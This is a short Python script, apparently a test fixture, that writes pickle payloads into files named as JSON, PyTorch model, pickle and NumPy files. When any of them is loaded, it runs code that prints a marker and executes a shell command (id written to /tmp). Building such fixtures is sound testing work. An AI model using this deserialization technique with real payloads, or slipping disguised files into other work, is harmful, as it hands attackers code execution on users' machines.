import pickle

import numpy


class Run:
    def __reduce__(self):
        return exec, ("import os; os.write(1, b'got-' + b'through: unpickled'); os.system('id > /tmp/unpickled')",)


for name in ("report.json", "report.pkl", "model.pt", "squares.npy"):
    with open(name, "wb") as file:
        pickle.dump(Run(), file)
numpy.save("squares.npy", numpy.array([Run()], dtype=object), allow_pickle=True)
